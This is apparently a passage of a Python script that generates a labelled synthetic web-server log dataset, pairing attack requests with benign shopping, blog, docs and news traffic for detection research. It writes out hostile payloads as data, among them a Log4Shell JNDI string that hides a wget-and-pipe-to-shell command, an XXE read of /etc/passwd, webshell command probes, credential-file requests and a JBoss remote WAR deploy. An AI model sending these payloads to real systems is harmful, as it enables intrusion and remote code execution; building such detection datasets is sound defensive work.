T('xxe', 'xxe-xinclude', 'GET', '/service?input=' + q('<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>'), 404, PATT + ' XXE (XInclude)')

# --- open redirect
T('open-redirect', 'redirect-protocol-relative', 'GET', '/login?next=//evil.example/%2F..', 200, PATT + ' Open Redirect')
T('open-redirect', 'redirect-backslash', 'GET', '/out?to=%2F%5Cevil.example', 404, PATT + ' Open Redirect (/\\ host)')
T('open-redirect', 'redirect-userinfo', 'GET', '/logout?returnTo=https://www.trusted.example@evil.example/', 404, PATT + ' Open Redirect (userinfo @)')
T('open-redirect', 'redirect-full-hex', 'GET', '/go?u=%68%74%74%70%73%3a%2f%2f%65%76%69%6c%2e%65%78%61%6d%70%6c%65', 404, 'fully percent-encoded URL')
T('open-redirect', 'redirect-ideographic-dot', 'GET', '/auth/callback?redirect_uri=https%3A%2F%2Fevil%E3%80%82example', 404, PATT + ' Open Redirect (U+3002 ideographic full stop)')

# --- CRLF / header injection in the URL
T('crlf', 'crlf-set-cookie-path', 'GET', '/%0d%0aSet-Cookie:%20crlf=injected', 404, PATT + ' CRLF Injection')
T('crlf', 'crlf-location-param', 'GET', '/lang?l=en%0D%0ALocation:%20https://evil.example/', 404, PATT + ' CRLF Injection (header in a parameter)')
T('crlf', 'crlf-unicode-bypass', 'GET', '/%E5%98%8A%E5%98%8DSet-Cookie:%20x=1', 404, 'HackerOne #676 style UTF-8 CRLF bypass (U+560A U+560D)')
T('crlf', 'crlf-response-splitting', 'GET', '/search?q=x%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Chtml%3Edefaced%3C/html%3E', 200, 'Amit Klein HTTP response splitting')

# --- Log4Shell / JNDI
L4 = 'CVE-2021-44228'
T('log4shell', L4, 'GET', '/?x=%24%7Bjndi%3Aldap%3A%2F%2F198.18.6.6%3A1389%2Fa%7D', 200, 'Log4Shell (LunaSec advisory) in a parameter')
T('log4shell', L4, 'GET', '/', 200, 'Log4Shell obfuscation ${::-j} (Cloudflare/Sysdig bypass lists) in the User-Agent', ua='${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://' + CB[0] + '/o}')
T('log4shell', L4, 'GET', '/api/search?q=' + q('${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://x.' + CB[3] + '/a}'), 404, 'Log4Shell ${lower:} obfuscation')
T('log4shell', L4, 'GET', '/index.html', 200, 'Log4Shell in the Referer', ref='${jndi:dns://ref.' + CB[2] + '/r}')
T('log4shell', L4, 'GET', '/login?user=%24%7B%24%7Benv%3ABARFOO%3A-j%7Dndi%24%7Benv%3ABARFOO%3A-%3A%7D%24%7Benv%3ABARFOO%3A-l%7Ddap%24%7Benv%3ABARFOO%3A-%3A%7D%2F%2F' + CB[1] + '%2Fz%7D', 404, 'Log4Shell ${env:X:-} obfuscation')
T('log4shell', L4, 'GET', '/', 200, 'Log4Shell JNDIExploit Base64 command in the User-Agent (honeypot captures)',
  ua='${jndi:ldap://198.18.6.8:1389/Basic/Command/Base64/' + b64('wget http://198.18.6.8/l.sh -O- | sh') + '}')

# --- webshells and backdoors
T('webshell', 'webshell-wp-typosquat', 'GET', '/wp-content/uploads/wp-conflg.php?pass=x7', 404, 'Sucuri: typosquatted wp-conflg.php backdoors')
T('webshell', 'webshell-aspx-cmd', 'GET', '/shell.aspx?cmd=whoami', 404, 'SecLists Web-Shells (ASPX)')
T('webshell', 'webshell-jsp-cmd', 'GET', '/cmd.jsp?cmd=cat+/etc/passwd', 404, 'SecLists Web-Shells (JSP)')
T('webshell', 'webshell-double-extension', 'GET', '/uploads/avatar.php.jpg?c=id', 404, 'upload double-extension webshell access')
T('webshell', 'webshell-post-theme-dir', 'POST', '/wp-admin/css/colors/coffee/index.php', 404, 'WordPress backdoor path seen in compromise reports (Sucuri/Wordfence)')
T('webshell', 'webshell-hidden-dotfile', 'GET', '/images/.x.php?0=system&1=id', 403, 'hidden PHP dropper access')

# --- sensitive files and backups
T('sensitive-file', 'env-production', 'GET', '/.env.production', 403, 'SecLists common dotfiles')
T('sensitive-file', 'backup-tarball', 'GET', '/backup.tar.gz', 404, 'SecLists backup file names')
T('sensitive-file', 'git-config-encoded-dot', 'GET', '/%2egit/config', 403, 'git exposure with encoded dot')
T('sensitive-file', 'wp-config-bak', 'GET', '/wp-config.php.bak', 404, 'WordPress config backup probe')
T('sensitive-file', 'aws-credentials', 'GET', '/.aws/credentials', 403, 'cloud credential file probes')
T('sensitive-file', 'ssh-private-key', 'GET', '/.ssh/id_rsa', 403, 'SecLists sensitive files')
T('sensitive-file', 'svn-wc-db', 'GET', '/.svn/wc.db', 403, 'SVN 1.7+ metadata')

# --- admin and technology probing
T('admin-probe', 'phpmyadmin', 'GET', '/phpmyadmin/index.php', 404, 'admin panel lists (SecLists)')
T('admin-probe', 'tomcat-manager-basic', 'GET', '/manager/html', 404, 'Tomcat manager brute force (Metasploit tomcat_mgr_login)', ua=TOOL['py'])
T('admin-probe', 'jmx-console-deploy', 'GET', '/jmx-console/HtmlAdaptor?action=invokeOp&name=jboss.system:service=MainDeployer&methodIndex=3&arg0=http://198.18.9.9/sh.war', 404, 'JBoss jmx-console MainDeployer (Metasploit jboss_maindeployer)')
T('tech-probe', 'spring-actuator-env', 'GET', '/actuator/env', 404, 'Spring Boot actuator exposure')
T('tech-probe', 'elasticsearch-indices', 'GET', '/_cat/indices?v', 404, 'Elasticsearch unauthenticated API')
T('tech-probe', 'docker-api-containers', 'GET', '/containers/json', 404, 'Docker Engine API exposure', ua=TOOL['go'])
T('tech-probe', 'k8s-secrets', 'GET', '/api/v1/namespaces/kube-system/secrets', 404, 'Kubernetes API unauthenticated access')
T('tech-probe', 'symfony-profiler-phpinfo', 'GET', '/_profiler/phpinfo', 404, 'Symfony profiler exposure')
T('tech-probe', 'symfony-fragment', 'GET', '/_fragment?_path=_controller%3Dphpcredits%26flag%3D-1&_hash=' + q(b64('x' * 20)[:27] + '='), 404, 'Ambionics "Symfony secret fragment" RCE')
T('tech-probe', 'jolokia-list', 'GET', '/jolokia/list', 404, 'Jolokia exposure (Veracode "Exploiting Spring Boot actuators")')

# --- WordPress enumeration and plugin probing
T('wordpress', 'wp-author-enum', 'GET', '/?author=1', 301, 'WPScan user enumeration (author archives)', ua=TOOL['wpscan'], more=[('GET', '/?author=2', 301), ('GET', '/?author=3', 404)])
T('wordpress', 'wp-rest-users', 'GET', '/wp-json/wp/v2/users', 200, 'WordPress REST user enumeration')
T('wordpress', 'wp-rest-route-users-fields', 'GET', '/?rest_route=/wp/v2/users&per_page=100&_fields=id,slug,name', 200, 'WordPress REST user enumeration (rest_route, field filter)')
T('wordpress', 'wp-xmlrpc-multicall', 'POST', '/xmlrpc.php', 200, 'system.multicall amplification brute force (Sucuri)', more=[('POST', '/xmlrpc.php', 200), ('POST', '/xmlrpc.php', 200)])
T('wordpress', 'wp-login-bruteforce', 'POST', '/wp-login.php', 200, 'wp-login.php password guessing', ref='https://blog.example/wp-login.php',
  more=[('POST', '/wp-login.php', 200, 'https://blog.example/wp-login.php'), ('POST', '/wp-login.php', 200, 'https://blog.example/wp-login.php'), ('POST', '/wp-login.php', 200, 'https://blog.example/wp-login.php')])
T('wordpress', 'wp-wlwmanifest', 'GET', '/wp-includes/wlwmanifest.xml', 404, 'WordPress fingerprinting before plugin attacks (botnet recon)')
T('wordpress', 'wp-plugin-readme-sweep', 'GET', '/wp-content/plugins/revslider/release_log.txt', 404, 'plugin version sweep',
  more=[('GET', '/wp-content/plugins/wp-file-manager/readme.txt', 404), ('GET', '/wp-content/plugins/litespeed-cache/readme.txt', 404), ('GET', '/wp-content/plugins/elementor/readme.txt', 404)])

# --- open proxy and CONNECT
T('proxy', 'proxy-absolute-uri-judge', 'GET', 'http://ip-check.example/azenv.php', 404, 'proxy-judge check (azenv.php) by open-proxy scanners')
T('proxy', 'proxy-connect-smtp', 'CONNECT', 'mail.victim.example:25', 400, 'CONNECT to SMTP through an open proxy (spam relay)', ua='-')
T('proxy', 'proxy-connect-443', 'CONNECT', '198.18.2.2:443', 400, 'CONNECT tunnel probe', ua='-')

# --- protocol anomalies (nginx logs what it read; "-" where it gave up before headers)
T('protocol', 'tls-clienthello-on-http', None, None, 400, 'TLS ClientHello bytes sent to the plain-HTTP port (scanner)', ua='-',
  raw='\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\xa1\x1e\x9f\xcbR\x83')
T('protocol', 'rdp-cookie-on-http', None, None, 400, 'RDP X.224 connection request on port 80 (mstshash cookie)', ua='-',
  raw='\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr')
T('protocol', 'http-version-9.9', 'GET', '/index.html', 505, 'unsupported HTTP version', ua='-', ver='HTTP/9.9')
T('protocol', 'http2-preface-on-h1', None, None, 400, 'HTTP/2 prior-knowledge preface on an HTTP/1 listener', ua='-', raw='PRI * HTTP/2.0')
T('protocol', 'bad-percent-encoding', 'GET', '/%%%%%', 400, 'invalid percent-encoding in the path', ua='-')

# --- deserialisation markers in the URL
T('deserialization', 'java-serialized-b64-param', 'GET', '/api/import?data=' + q('rO0ABXNyABFqYXZhLnV0aWwuSGFzaFNldLpEhZWWuLc0AwAAeHB3DAAAAAI/QAAAAAAAAXNyADRvcmcuYXBhY2hlLmNvbW1vbnMuY29sbGVjdGlvbnMua2V5dmFsdWUuVGllZE1hcEVudHJ5'), 404, 'ysoserial CommonsCollections6 (base64 rO0AB prefix)')
T('deserialization', 'php-object-injection', 'GET', '/index.php?data=O:8:%22stdClass%22:1:%7Bs:4:%22file%22;s:11:%22/etc/passwd%22;%7D', 200, PATT + ' PHP object injection')

# --- scanners with their own user agents
T('scanner', 'nikto-awstats', 'GET', '/cgi-bin/awstats.pl?configdir=|echo;echo%20YYYAAA;uname;echo%20YYY;echo|', 404, 'Nikto database (awstats configdir)', ua=TOOL['nikto'])
T('scanner', 'nmap-nse-nice-ports', 'GET', '/nice%20ports%2C/Tri%6Eity.txt%2ebak', 404, 'Nmap service probe (GetRequest "nice ports")', ua=TOOL['nmap'])
T('scanner', 'dirbuster-admin-bak', 'GET', '/admin.bak', 404, 'DirBuster wordlist brute force', ua=TOOL['dirb'], more=[('GET', '/admin.old', 404), ('GET', '/admin.zip', 404)])


# ================================================================= benign traffic
SHOP = 'https://shop.example'
BLOG = 'https://blog.example'
DOCS = 'https://docs.example'
NEWS = 'https://news.example'

def shop_visit(r):
    prod = r.choice(['linen-shirt-white', 'wool-scarf-grey', 'trail-runner-42', 'ceramic-mug-set', 'canvas-tote-navy', 'rain-jacket-olive'])
    ref0 = r.choice(['-', 'https://www.google.com/', 'https://duckduckgo.com/', 'https://www.bing.com/'])
    v = r.randint(100, 999)
    return [('GET', '/', 200, ref0), ('GET', '/static/css/main.%d.css' % v, 200, SHOP + '/'),
            ('GET', '/static/js/app.%d.js' % v, 200, SHOP + '/'), ('GET', '/images/hero-winter.webp', 200, SHOP + '/'),
            ('GET', '/favicon.ico', 200, '-'), ('GET', '/products/' + prod, 200, SHOP + '/'),
            ('GET', '/images/products/%s-800.webp' % prod, 200, SHOP + '/products/' + prod),
            ('GET', '/api/cart', 200, SHOP + '/products/' + prod)]

def shop_search(r):
    term = r.choice(['select+shoes', 'O%27Reilly+books', 'union+jack+flag', 'drop+earrings', 'script+writing+notebook', 'rain%20boots%20size%2042'])
    return [('GET', '/search?q=' + term, 200, SHOP + '/'), ('GET', '/static/css/main.412.css', 200, SHOP + '/search?q=' + term),
            ('GET', '/search?q=' + term + '&page=2&sort=price_asc', 200, SHOP + '/search?q=' + term),
            ('GET', '/products/oxford-shoe-brown', 200, SHOP + '/search?q=' + term)]

def blog_visit(r):
    post = r.choice(['2025/11/winter-gardening-tips/', '2025/12/sourdough-starter-guide/', '2025/10/hiking-the-ridge/'])
    return [('GET', '/' + post, 200, r.choice(['-', 'https://www.google.com/', 'https://t.co/x7Qm2'])),
            ('GET', '/wp-content/themes/astra/style.css?ver=4.8.3', 200, BLOG + '/' + post),
            ('GET', '/wp-includes/js/jquery/jquery.min.js?ver=3.7.1', 200, BLOG + '/' + post),
            ('GET', '/wp-content/uploads/2025/11/garden-1024x683.jpg', 200, BLOG + '/' + post),
            ('GET', '/wp-json/wp/v2/comments?post=412', 200, BLOG + '/' + post),
            ('GET', '/category/recipes/', 200, BLOG + '/' + post)]

def docs_visit(r):
    return [('GET', '/docs/getting-started/', 200, r.choice(['-', 'https://github.com/'])),
            ('GET', '/assets/docs.css', 200, DOCS + '/docs/getting-started/'),
            ('GET', '/assets/search-index.json', 200, DOCS + '/docs/getting-started/'),
            ('GET', '/docs/api/authentication/', 200, DOCS + '/docs/getting-started/'),
            ('GET', '/search?q=rate+limit', 200, DOCS + '/docs/api/authentication/'),
            ('GET', '/docs/api/rate-limits/#retry-after', 200, DOCS + '/search?q=rate+limit')]

def news_visit(r):
    return [('GET', '/world/2025/12/08/summit-ends/', 200, r.choice(['-', 'https://news.google.com/'])),
            ('GET', '/static/site.css', 200, NEWS + '/world/2025/12/08/summit-ends/'),
            ('GET', '/static/img/summit-1200.jpg', 200, NEWS + '/world/2025/12/08/summit-ends/'),
            ('GET', '/api/related?id=88213&limit=4', 200, NEWS + '/world/2025/12/08/summit-ends/'),
            ('GET', '/login?next=/account/', 200, NEWS + '/world/2025/12/08/summit-ends/'),
            ('GET', '/account/', 302, NEWS + '/login?next=/account/')]

BENIGN_KINDS = [('browser-shop', shop_visit)] * 12 + [('browser-shop-search', shop_search)] * 6 + \
               [('browser-blog', blog_visit)] * 9 + [('browser-docs', docs_visit)] * 7 + [('browser-news', news_visit)] * 6

# ================================================================= write
def esc(s):
    out = []
    for ch in s.encode('latin-1') if all(ord(c) < 256 for c in s) else s.encode('utf-8'):
        if ch == 0x22 or ch == 0x5c or ch < 0x20 or ch > 0x7e:
            out.append('\\x%02X' % ch)
        else:
            out.append(chr(ch))
    return ''.join(out)

SIZES = {200: (900, 24000), 301: (169, 169), 302: (0, 154), 400: (150, 157), 403: (153, 153), 404: (153, 555),
         405: (157, 157), 505: (173, 173)}

def size(r, st):
    lo, hi = SIZES[st]
    return r.choice([lo, hi]) if st in (302, 404, 400) else (lo if lo == hi else r.randint(lo, hi))

def line(ip, t, request, st, sz, ref, ua):
    return '%s - - [%s] "%s" %d %d "%s" "%s"' % (ip, t.strftime('%d/%b/%Y:%H:%M:%S +0000'), request, st, sz, esc(ref), esc(ua))

def main():
    r = random.Random(SEED)
    order = list(range(len(E)))
    r.shuffle(order)
    lines, labels, reqrows = [], [], []
    t = DAY + datetime.timedelta(hours=0, minutes=3)
    for n, idx in enumerate(order):
        e = E[idx]
        a = 10 + n
        ip = '100.86.%d.%d' % (a // 250, a % 250)
        ua = e['ua'] if e['ua'] is not None else UA[r.choice(BROWSERS)]
        t += datetime.timedelta(seconds=r.randint(60, 320))
        tt = t
        for k, (m, target, st, ref) in enumerate(e['reqs']):
            if k:
                tt += datetime.timedelta(seconds=r.randint(1, 6))
            if e['raw'] is not None:
                request = esc(e['raw'])
                shown = e['raw'].encode('latin-1').hex() if any(ord(c) < 0x20 or ord(c) > 0x7e for c in e['raw']) else e['raw']
                shown = ('hex:' + shown) if shown != e['raw'] else shown
            else:
                request = esc('%s %s %s' % (m, target, e['ver']))
                shown = '%s %s %s' % (m, target, e['ver'])
            lines.append((tt, line(ip, tt, request, st, size(r, st), ref, ua)))
            reqrows.append('\t'.join([ip, e['cat'], e['label'], esc(shown), e['product'], e['source']]))
        labels.append('%s\tattack\t%s\t%s' % (ip, e['cat'], e['label']))
    lines.sort(key=lambda x: x[0])
    # benign
    blines, blabels = [], []
    for i, (kind, fn) in enumerate(BENIGN_KINDS):
        ip = '100.95.%d.%d' % (r.randint(0, 255), 10 + i)
        ua = UA[r.choice(BROWSERS)]
        tt = DAY + datetime.timedelta(seconds=r.randint(300, 23 * 3600))
        for (m, target, st, ref) in fn(r):
            tt += datetime.timedelta(seconds=r.randint(0, 2) if ref != '-' and ('/static/' in target or '/assets/' in target or '/wp-' in target or '/images/' in target) else r.randint(4, 75))
            blines.append((tt, line(ip, tt, esc('%s %s HTTP/1.1' % (m, target)), st, size(r, st), ref, ua)))
        blabels.append('%s\tbenign\t%s' % (ip, kind))
    blines.sort(key=lambda x: x[0])
    with open(os.path.join(OUT, 'attacks.log'), 'w') as f:
        f.write(''.join(l + '\n' for _, l in lines))
    with open(os.path.join(OUT, 'attacks.labels'), 'w') as f:
        f.write(''.join(l + '\n' for l in sorted(labels, key=lambda s: tuple(int(x) for x in s.split('\t')[0].split('.')))))
    with open(os.path.join(OUT, 'requests.tsv'), 'w') as f:
        f.write('ADDRESS\tCATEGORY\tCVE_OR_TECHNIQUE\tREQUEST_LINE\tPRODUCT\tPUBLIC_SOURCE\n')
        f.write(''.join(l + '\n' for l in reqrows))
    with open(os.path.join(OUT, 'benign.log'), 'w') as f:
        f.write(''.join(l + '\n' for _, l in blines))
    with open(os.path.join(OUT, 'benign.labels'), 'w') as f:
        f.write(''.join(l + '\n' for l in blabels))

if __name__ == '__main__':
    main()
